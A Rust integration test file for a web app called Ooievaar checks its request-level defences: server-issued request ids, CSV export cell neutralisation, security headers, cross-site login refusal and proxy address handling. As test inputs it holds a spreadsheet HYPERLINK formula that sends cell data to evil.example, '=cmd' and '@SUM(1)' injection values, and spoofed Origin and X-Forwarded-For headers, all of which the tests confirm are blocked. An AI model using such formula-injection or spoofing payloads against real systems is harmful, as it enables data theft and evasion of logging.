//! The request-level defences of DESIGN section 9 through the real router, on SQLite and
//! PostgreSQL: server-generated request ids, neutralised CSV cells, the response headers, the
//! cross-site check, the client address behind trusted proxies, and `serve` refusing to start
//! in production without its checkpoint key.

use crate::helpers::{
    client, serve_binary, spawn_app, spawn_app_with, stop_and_read_output, Backend, TestApp,
    PASSWORD,
};
use crate::source_api::{fixture, valid_share, wieg_token, BSN};
use backend::on_both_backends;
use backend::Settings;
use std::process::Stdio;

const EVIL: &str = "https://evil.example";

on_both_backends!(
    request_ids_come_from_the_server_and_match_the_audit_events,
    the_export_neutralises_cells_that_a_spreadsheet_would_run,
    pages_server_functions_and_the_export_carry_the_security_headers,
    hsts_is_sent_only_with_secure_cookies,
    a_cross_site_login_is_refused_and_changes_nothing,
    a_cross_site_server_function_call_is_refused,
    same_origin_requests_and_requests_without_origin_pass,
    the_public_url_is_the_sites_own_origin_too,
    the_source_api_takes_a_foreign_origin,
    x_forwarded_for_from_an_untrusted_peer_is_ignored,
    x_forwarded_for_from_a_trusted_proxy_names_the_client,
);

/// The newest audit event of `action`.
async fn last_event(app: &TestApp, action: &str) -> Option<backend::store::AuditRow> {
    app.audit_events()
        .await
        .into_iter()
        .rev()
        .find(|e| e.action == action)
}

/// A JSON login by `c` as `verloskundige` (both steps) with one extra header on each request;
/// the answer of the second step.
async fn login_with_header(
    c: &reqwest::Client,
    app: &TestApp,
    name: &str,
    value: &str,
) -> reqwest::Response {
    let first = c
        .post(app.url("/api/login"))
        .header("accept", "application/json")
        .header(name, value)
        .form(&[("username", "verloskundige"), ("password", PASSWORD)])
        .send()
        .await
        .unwrap();
    // The second step (with the same header), which writes the `login` event.
    crate::helpers::second_step(
        c,
        &app.address,
        &app.database_url,
        "verloskundige",
        first,
        &[(name, value)],
    )
    .await
}

/// Adds De Wieg's ES256 key to the sources; the returned folder holds its file.
async fn add_wieg_key(app: &TestApp) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let key = dir.path().join("es256-a.pub.pem");
    std::fs::write(&key, fixture("es256-a.pub.pem")).unwrap();
    backend::sources::add_key(&app.store, "de-wieg-epd", &key.display().to_string())
        .await
        .unwrap();
    dir
}

fn is_uuid(s: &str) -> bool {
    uuid::Uuid::parse_str(s).is_ok()
}

/// Rule 5 (the log must hold the truth) and DESIGN 9 "Every response": a client-sent
/// `X-Request-Id` is replaced by one the server generates; the response carries that id, and it
/// is the `request_id` of the audit event the request wrote.
async fn request_ids_come_from_the_server_and_match_the_audit_events(backend: Backend) {
    let app = spawn_app(backend).await;
    let c = client();
    let r = login_with_header(&c, &app, "x-request-id", "=cmd").await;
    assert_eq!(r.status(), 200);
    let ids: Vec<&str> = r
        .headers()
        .get_all("x-request-id")
        .iter()
        .map(|v| v.to_str().unwrap())
        .collect();
    assert_eq!(ids.len(), 1, "{ids:?}");
    assert!(is_uuid(ids[0]), "a server-generated id: {ids:?}");
    let login = last_event(&app, "login").await.expect("login logged");
    assert_eq!(login.request_id.as_deref(), Some(ids[0]));

    // A page, a failing server function and the health check get their own ids as well.
    for r in [
        c.get(app.url("/"))
            .header("x-request-id", "=cmd")
            .send()
            .await
            .unwrap(),
        app.search(&client(), "1", "x").await,
        c.get(app.url("/healthz"))
            .header("x-request-id", "=cmd")
            .send()
            .await
            .unwrap(),
    ] {
        let id = r.headers()["x-request-id"].to_str().unwrap().to_owned();
        assert!(is_uuid(&id), "{id}");
        assert_ne!(id, ids[0], "a fresh id per request");
    }
    assert!(
        app.audit_events()
            .await
            .iter()
            .all(|e| e.request_id.as_deref() != Some("=cmd")),
        "the client-sent id never reaches the log"
    );
}

/// DESIGN 7 (CSV export) and rule 7: text an outsider chooses (a failed login's name, the
/// User-Agent, a request id) cannot become a formula in the officer's spreadsheet: every cell
/// starting with `=`, `+`, `-`, `@`, tab or CR is prefixed with `'`.
async fn the_export_neutralises_cells_that_a_spreadsheet_would_run(backend: Backend) {
    let app = spawn_app(backend).await;
    let hyperlink = r#"=HYPERLINK("http://evil.example/?d="&A1,"klik")"#;
    let r = client()
        .post(app.url("/api/login"))
        .header("accept", "application/json")
        .header("user-agent", "@SUM(1)")
        .header("x-request-id", "=cmd")
        .form(&[("username", hyperlink), ("password", "fout")])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 401);
    let failed = last_event(&app, "login_failed")
        .await
        .expect("the failed login is logged");
    assert_eq!(failed.user_agent.as_deref(), Some("@SUM(1)"));
    let stored_name = failed
        .user_name
        .clone()
        .expect("the attempted name is kept");
    assert!(stored_name.starts_with("=hyperlink("), "{stored_name}");

    let officer = app.logged_in("privacy").await;
    let r = officer
        .get(app.url("/audit/export.csv"))
        .header("user-agent", "-2+3")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let body = r.text().await.unwrap();
    assert!(
        !body.contains("=cmd"),
        "the client-sent id is not in the export"
    );
    let mut reader = csv::Reader::from_reader(body.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    let row = rows
        .iter()
        .find(|r| r[0] == failed.id.to_string())
        .expect("the failed login exported");
    assert_eq!(&row[5], format!("'{stored_name}"), "user_name");
    assert_eq!(&row[16], "'@SUM(1)", "user_agent");
    assert!(is_uuid(&row[17]), "request_id: {}", &row[17]);
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a live formula cell: {cell:?}"
            );
        }
    }
    // The export's own event is written before the rows are read, with the officer's agent.
    let export = last_event(&app, "export").await.unwrap();
    let row = rows.iter().find(|r| r[0] == export.id.to_string()).unwrap();
    assert_eq!(&row[16], "'-2+3");
}

fn header<'a>(r: &'a reqwest::Response, name: &str) -> &'a str {
    r.headers()
        .get(name)
        .unwrap_or_else(|| panic!("{name} missing on {}", r.url()))
        .to_str()
        .unwrap()
}

/// Asserts the headers every HTML, server-function and export response carries (DESIGN 9).
fn assert_security_headers(r: &reqwest::Response) -> String {
    assert_eq!(header(r, "cache-control"), "no-store", "{}", r.url());
    assert_eq!(header(r, "x-content-type-options"), "nosniff");
    assert_eq!(header(r, "referrer-policy"), "same-origin");
    let csp = header(r, "content-security-policy").to_owned();
    for directive in [
        "frame-ancestors 'none'",
        "object-src 'none'",
        "base-uri 'none'",
        "'wasm-unsafe-eval'",
    ] {
        assert!(csp.contains(directive), "{directive} in {csp}");
    }
    let script_src = csp
        .split(';')
        .map(str::trim)
        .find(|d| d.starts_with("script-src "))
        .expect("a script policy");
    assert!(!script_src.contains("'unsafe-inline'"), "{script_src}");
    assert!(script_src.contains("'nonce-"), "{script_src}");
    csp
}

/// Rules 3 and 10, DESIGN 9 "Every response": a page with clinical data is never stored by the
/// browser (`no-store`), cannot be framed, runs only its own scripts (the hydration scripts carry
/// the response's nonce), is not sniffed, and sends its address only to itself.
async fn pages_server_functions_and_the_export_carry_the_security_headers(backend: Backend) {
    let app = spawn_app(backend).await;
    let c = client();
    let page = c
        .get(app.url("/login"))
        .header("accept", "text/html")
        .send()
        .await
        .unwrap();
    assert_eq!(page.status(), 200);
    let csp = assert_security_headers(&page);
    assert!(page.headers().get("strict-transport-security").is_none());
    let html = page.text().await.unwrap();
    // Leptos's inline scripts carry exactly the nonce of this response's policy.
    let nonce = csp
        .split("'nonce-")
        .nth(1)
        .and_then(|rest| rest.split('\'').next())
        .unwrap()
        .to_owned();
    assert!(nonce.len() >= 16, "{nonce}");
    let scripts = html.matches("<script").count();
    assert!(scripts >= 1, "{html}");
    assert_eq!(
        html.matches(&format!("nonce=\"{nonce}\"")).count(),
        html.matches("nonce=\"").count(),
        "every nonce on the page is the header's"
    );
    assert!(html.contains(&format!("<script type=\"module\" nonce=\"{nonce}\"")));
    let other = c.get(app.url("/login")).send().await.unwrap();
    assert_ne!(
        assert_security_headers(&other),
        csp,
        "a fresh nonce per response"
    );

    let vk = app.logged_in("verloskundige").await;
    let client_page = vk.get(app.url("/")).send().await.unwrap();
    assert_eq!(client_page.status(), 200);
    assert_security_headers(&client_page);
    let server_fn = app.call(&vk, "shell", &[]).await;
    assert_eq!(server_fn.status(), 200);
    assert_security_headers(&server_fn);
    let refused = app.call(&client(), "shell_xyz", &[]).await;
    assert_security_headers(&refused);

    let officer = app.logged_in("privacy").await;
    let export = officer
        .get(app.url("/audit/export.csv"))
        .send()
        .await
        .unwrap();
    assert_eq!(export.status(), 200);
    assert_security_headers(&export);
    let anonymous_export = client()
        .get(app.url("/audit/export.csv"))
        .send()
        .await
        .unwrap();
    assert_eq!(anonymous_export.status(), 401);
    assert_security_headers(&anonymous_export);
}

/// DESIGN 9: HSTS when secure cookies are on (production), never on plain-http local use.
async fn hsts_is_sent_only_with_secure_cookies(backend: Backend) {
    let app = spawn_app_with(
        backend,
        Settings {
            secure_cookies: true,
            ..Settings::default()
        },
    )
    .await;
    for path in ["/login", "/healthz"] {
        let r = client().get(app.url(path)).send().await.unwrap();
        assert_eq!(
            header(&r, "strict-transport-security"),
            server::middleware::headers::HSTS
        );
        assert_eq!(header(&r, "cache-control"), "no-store");
    }
}

/// Rule 10: another site cannot log a browser in (with or without JavaScript): 403, no session
/// cookie, no `login` event.
async fn a_cross_site_login_is_refused_and_changes_nothing(backend: Backend) {
    let app = spawn_app(backend).await;
    let before = app.audit_events().await.len();
    let attempts: Vec<(&str, Vec<(&str, &str)>)> = vec![
        ("fetch with a foreign Origin", vec![("origin", EVIL)]),
        ("Origin null", vec![("origin", "null")]),
        ("cross-site", vec![("sec-fetch-site", "cross-site")]),
        ("same-site", vec![("sec-fetch-site", "same-site")]),
        (
            "cross-site beats a matching Origin",
            vec![
                ("sec-fetch-site", "cross-site"),
                ("origin", app.address.as_str()),
            ],
        ),
    ];
    for (what, headers) in &attempts {
        for accept in ["application/json", "text/html,application/xhtml+xml"] {
            let c = client();
            let mut request = c
                .post(app.url("/api/login"))
                .header("accept", accept)
                .header("referer", format!("{EVIL}/form"))
                .form(&[("username", "verloskundige"), ("password", PASSWORD)]);
            for (k, v) in headers {
                request = request.header(*k, *v);
            }
            let r = request.send().await.unwrap();
            assert_eq!(r.status(), 403, "{what} ({accept})");
            assert!(
                r.headers().get("set-cookie").is_none(),
                "{what}: no session"
            );
            assert_security_headers(&r);
            assert!(r.text().await.unwrap().contains("Geweigerd"));
            // Nothing was logged in: the shell knows no user.
            let shell = app.shell(&c).await;
            assert!(shell["user"].is_null(), "{what}: {shell}");
        }
    }
    let after = app.audit_events().await;
    assert_eq!(
        after.len(),
        before,
        "nothing logged: {:?}",
        &after[before..]
    );
}

/// Rule 10: a logged-in user's server functions and no-JS forms are refused when another site
/// sends them (her SameSite cookie aside): no search runs, no event is written.
async fn a_cross_site_server_function_call_is_refused(backend: Backend) {
    let app = spawn_app(backend).await;
    let vk = app.logged_in("verloskundige").await;
    let before = app.audit_events().await.len();
    for (endpoint, form) in [
        (
            "search",
            vec![("bsn", "999990032"), ("birth_date", "1991-04-06")],
        ),
        ("logout", vec![]),
    ] {
        for (k, v) in [("origin", EVIL), ("sec-fetch-site", "cross-site")] {
            let r = vk
                .post(app.url(&format!("/api/{endpoint}")))
                .header("accept", "application/json")
                .header(k, v)
                .form(&form)
                .send()
                .await
                .unwrap();
            assert_eq!(r.status(), 403, "{endpoint} with {k}: {v}");
        }
    }
    let put = vk
        .put(app.url("/api/search"))
        .header("origin", EVIL)
        .send()
        .await
        .unwrap();
    assert_eq!(put.status(), 403, "PUT is checked too");
    assert_eq!(app.audit_events().await.len(), before, "nothing happened");
    // Still logged in (the cross-site logout did nothing).
    assert!(!app.shell(&vk).await["user"].is_null());
}

/// Rule 10 must not break Ooievaar's own pages: its own origin (scheme + Host), `Sec-Fetch-Site:
/// same-origin` or `none`, and non-browser callers without `Origin` pass; a same-origin no-JS
/// form still returns to its page with its error.
async fn same_origin_requests_and_requests_without_origin_pass(backend: Backend) {
    let app = spawn_app(backend).await;
    let login = |c: &reqwest::Client, headers: Vec<(&'static str, String)>, password: &str| {
        let mut request = c
            .post(app.url("/api/login"))
            .header("accept", "application/json")
            .form(&[("username", "verloskundige"), ("password", password)]);
        for (k, v) in headers {
            request = request.header(k, v);
        }
        request.send()
    };
    for headers in [
        vec![("origin", app.address.clone())],
        vec![("sec-fetch-site", "same-origin".to_owned())],
        vec![("sec-fetch-site", "none".to_owned())],
        vec![
            ("sec-fetch-site", "same-origin".to_owned()),
            ("origin", app.address.clone()),
        ],
        vec![],
    ] {
        let c = client();
        let r = login(&c, headers.clone(), PASSWORD).await.unwrap();
        assert_eq!(r.status(), 200, "{headers:?}");
        let pairs: Vec<(&str, &str)> = headers.iter().map(|(k, v)| (*k, v.as_str())).collect();
        let r = crate::helpers::second_step(
            &c,
            &app.address,
            &app.database_url,
            "verloskundige",
            r,
            &pairs,
        )
        .await;
        assert_eq!(r.status(), 200, "second step {headers:?}");
        assert!(!app.shell(&c).await["user"].is_null(), "{headers:?}");
    }
    // The no-JS form of the login page: a same-origin post, back to /login with its error.
    let c = client();
    let failed = c
        .post(app.url("/api/login"))
        .header("accept", "text/html,application/xhtml+xml")
        .header("origin", &app.address)
        .header("sec-fetch-site", "same-origin")
        .header("referer", app.url("/login"))
        .form(&[
            ("username", "verloskundige"),
            ("password", "wrong-password"),
        ])
        .send()
        .await
        .unwrap();
    assert_eq!(failed.status(), 302);
    let location = failed.headers()["location"].to_str().unwrap().to_owned();
    assert!(location.contains("/login?"), "{location}");
    let page = c.get(&location).send().await.unwrap().text().await.unwrap();
    assert!(page.contains("Inloggen is niet gelukt"));
    // A logged-in user's same-origin search works.
    let vk = app.logged_in("verloskundige").await;
    let r = vk
        .post(app.url("/api/search"))
        .header("accept", "application/json")
        .header("origin", &app.address)
        .form(&[("bsn", "999990032"), ("birth_date", "1991-04-06")])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
}

/// Rule 10 behind a proxy: `OOIEVAAR_PUBLIC_URL` is the site's own origin as well; other
/// origins still are not.
async fn the_public_url_is_the_sites_own_origin_too(backend: Backend) {
    let app = spawn_app_with(
        backend,
        Settings {
            public_url: Some("https://ooievaar.example.nl".into()),
            ..Settings::default()
        },
    )
    .await;
    for (origin, status) in [
        ("https://ooievaar.example.nl", 200),
        ("https://OOIEVAAR.example.nl:443", 200),
        ("http://ooievaar.example.nl", 403),
        ("https://ooievaar.example.nl.evil.example", 403),
    ] {
        let r = login_with_header(&client(), &app, "origin", origin).await;
        assert_eq!(r.status(), status, "{origin}");
    }
}

/// Rule 10 names its exemptions exactly: the bearer-token source API is not a browser API, so
/// a foreign (or null) Origin does not stop a source's share or consent withdrawal (rule 1).
async fn the_source_api_takes_a_foreign_origin(backend: Backend) {
    let app = spawn_app(backend).await;
    let _key_dir = add_wieg_key(&app).await;
    for (path, body) in [
        (format!("/api/v1/shares/{BSN}"), valid_share(1)),
        (
            format!("/api/v1/shares/{BSN}/consent"),
            serde_json::json!({ "status": "withdrawn" }),
        ),
    ] {
        let r = client()
            .put(app.url(&path))
            .bearer_auth(wieg_token())
            .header("origin", "null")
            .header("sec-fetch-site", "cross-site")
            .json(&body)
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 200, "{path}");
    }
    assert!(last_event(&app, "consent_withdrawn").await.is_some());
}

/// Login as `verloskundige` with an `X-Forwarded-For`; the address her `login` event records.
async fn login_ip(app: &TestApp, forwarded_for: &str) -> String {
    let r = login_with_header(&client(), app, "x-forwarded-for", forwarded_for).await;
    assert_eq!(r.status(), 200);
    last_event(app, "login").await.unwrap().ip.unwrap()
}

/// Rules 4 and 9: without trusted proxies anyone could pick the address the log records and the
/// per-address limits count by sending `X-Forwarded-For`; it is ignored.
async fn x_forwarded_for_from_an_untrusted_peer_is_ignored(backend: Backend) {
    let app = spawn_app(backend).await;
    assert_eq!(login_ip(&app, "203.0.113.7").await, "127.0.0.1");
    // A listed proxy elsewhere does not make this peer trusted.
    let app = spawn_app_with(
        backend,
        Settings {
            trusted_proxies: server::config::parse_trusted_proxies("10.0.0.0/8").unwrap(),
            ..Settings::default()
        },
    )
    .await;
    assert_eq!(login_ip(&app, "203.0.113.7").await, "127.0.0.1");
}

/// Rule 4 behind a reverse proxy (`OOIEVAAR_TRUSTED_PROXIES`): the log records the workstation,
/// the rightmost hop that is not a listed proxy, not a spoofed first hop.
async fn x_forwarded_for_from_a_trusted_proxy_names_the_client(backend: Backend) {
    let app = spawn_app_with(
        backend,
        Settings {
            trusted_proxies: server::config::parse_trusted_proxies("127.0.0.1, 10.0.0.0/8")
                .unwrap(),
            ..Settings::default()
        },
    )
    .await;
    assert_eq!(login_ip(&app, "203.0.113.7").await, "203.0.113.7");
    assert_eq!(
        login_ip(&app, "6.6.6.6, 203.0.113.7, 10.1.2.3").await,
        "203.0.113.7"
    );
    // The same address reaches the source API's events.
    let _key_dir = add_wieg_key(&app).await;
    let r = client()
        .put(app.url(&format!("/api/v1/shares/{BSN}")))
        .bearer_auth(wieg_token())
        .header("x-forwarded-for", "198.51.100.4")
        .json(&valid_share(1))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let received = last_event(&app, "share_received").await.unwrap();
    assert_eq!(received.ip.as_deref(), Some("198.51.100.4"));
}

/// Rule 5 (a checkpoint key beside the database lets whoever rewrites the log re-sign it):
/// `serve` in production (secure cookies) refuses to start without an existing key file and
/// says why; with the key it starts, and a client-sent request id reaches neither the answer
/// nor the server log.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn production_serve_needs_an_existing_checkpoint_key() {
    let dir = tempfile::tempdir().unwrap();
    let db = format!("sqlite://{}/prod.db", dir.path().display());
    let key = dir.path().join("keys").join("checkpoint.pem");
    let key_env = key.display().to_string();
    let secret = dir.path().join("keys").join("secret-key");
    let secret_env = secret.display().to_string();
    // `serve` in production with both key files named; it should stop at a missing one.
    let serve_once = || {
        std::process::Command::new(env!("CARGO_BIN_EXE_ooievaar"))
            .arg("serve")
            .env("DATABASE_URL", &db)
            .env("LEPTOS_SITE_ADDR", "127.0.0.1:0")
            .env("OOIEVAAR_SECURE_COOKIES", "true")
            .env("OOIEVAAR_CHECKPOINT_KEY", &key_env)
            .env("OOIEVAAR_SECRET_KEY", &secret_env)
            .output()
            .unwrap()
    };
    // Without the second-factor secret key file: refused, and none is created.
    let out = serve_once();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        !out.status.success(),
        "serve started without its secret key"
    );
    assert!(stderr.contains("OOIEVAAR_SECRET_KEY"), "{stderr}");
    assert!(!secret.exists() && !dir.path().join("secret-key").exists());
    std::fs::create_dir_all(secret.parent().unwrap()).unwrap();
    std::fs::write(&secret, backend::second_factor::SecretKey::generate_hex()).unwrap();

    let out = serve_once();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "serve started without its key");
    assert!(
        stderr.contains("checkpoint key") && stderr.contains("OOIEVAAR_CHECKPOINT_KEY"),
        "{stderr}"
    );
    assert!(!key.exists(), "no key was created");
    // The default place beside the database is not used either.
    assert!(!dir.path().join("checkpoint-key.pem").exists());

    std::fs::create_dir_all(key.parent().unwrap()).unwrap();
    server::checkpoint::CheckpointKey::load_or_create(&key).unwrap();
    let (server, base) = serve_binary(
        &db,
        &[
            ("OOIEVAAR_SECURE_COOKIES", "true"),
            ("OOIEVAAR_CHECKPOINT_KEY", &key_env),
            ("OOIEVAAR_SECRET_KEY", &secret_env),
            ("RUST_LOG", "debug"),
        ],
        Stdio::piped,
    )
    .await;
    let marker = "=cmd-client-chosen-id";
    let r = client()
        .get(format!("{base}/healthz"))
        .header("x-request-id", marker)
        .send()
        .await
        .expect("serve runs with its key");
    assert_eq!(r.status(), 200);
    let id = r.headers()["x-request-id"].to_str().unwrap().to_owned();
    assert!(is_uuid(&id), "{id}");
    let log = stop_and_read_output(server);
    assert!(log.contains(&id), "the server's id is in its log: {log}");
    assert!(!log.contains(marker), "the client's id is not: {log}");
}
